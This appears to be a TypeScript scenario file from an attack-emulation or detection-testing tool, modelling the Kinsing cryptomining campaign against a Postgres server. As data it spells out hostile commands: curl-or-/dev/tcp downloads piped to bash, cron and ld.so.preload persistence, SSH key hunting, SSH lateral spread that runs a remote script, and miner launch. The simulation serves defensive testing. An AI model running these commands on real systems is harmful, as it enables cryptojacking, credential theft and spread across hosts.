import { type Campaign, run } from './campaign.ts'
import { mine } from './miner.ts'

export const KINSING: Campaign = {
  id: 'kinsing',
  title: 'Kinsing: database to kdevtmpfsi',
  source: 'MITRE ATT&CK S0599',
  victim: 'postgres',
  evasions: ['no-downloader'],
  unseen: ['1: connections to the exposed database'],
  rows: (attack) => {
    const { server, drop, evades } = attack
    const web = [[server, 80]] as const
    return [
      [
        '0:00',
        3,
        evades('no-downloader')
          ? run('server', `/bin/bash -c 'exec 3<>/dev/tcp/${server}/80; cat <&3 | bash'`, { as: 'sh', to: web })
          : run('server', `/bin/sh -c 'curl -s http://${server}/pg.sh | bash'`, { as: 'sh' })
      ],
      ...(evades('no-downloader')
        ? []
        : ([['0:01', 3, run('sh', `/usr/bin/curl -s http://${server}/pg.sh`, { to: web })]] as const)),
      ['0:02', 3, run('sh', '/bin/bash', { as: 'script' })],
      ['0:20', 4, run('script', '/usr/bin/pkill -f xmrig')],
      ['0:24', 4, run('script', '/usr/bin/chattr -i /etc/ld.so.preload')],
      ['0:40', 4, run('script', '/usr/bin/crontab -', { writes: ['/var/spool/cron/crontabs/postgres'] })],
      ['1:20', 5, run('script', '/usr/bin/find /root /home -maxdepth 3 -name id_rsa')],
      ['1:24', 5, run('script', '/bin/cat /root/.ssh/known_hosts', { reads: ['/root/.ssh/id_rsa'] })],
      [
        '1:40',
        5,
        run(
          'script',
          `/usr/bin/ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@10.0.1.23 'curl -s http://${server}/spre.sh | bash'`,
          { to: [['10.0.1.23', 22]] }
        )
      ],
      ['2:10', 6, run('script', '/tmp/kinsing', { as: 'kinsing', to: [[drop, 80]] })],
      ['2:40', 6, run('script', '/usr/bin/tee /etc/ld.so.preload', { writes: ['/etc/ld.so.preload'] })],
      ...mine(attack, '3:00', 6, 'kinsing', { path: '/tmp/kdevtmpfsi' })
    ]
  }
}
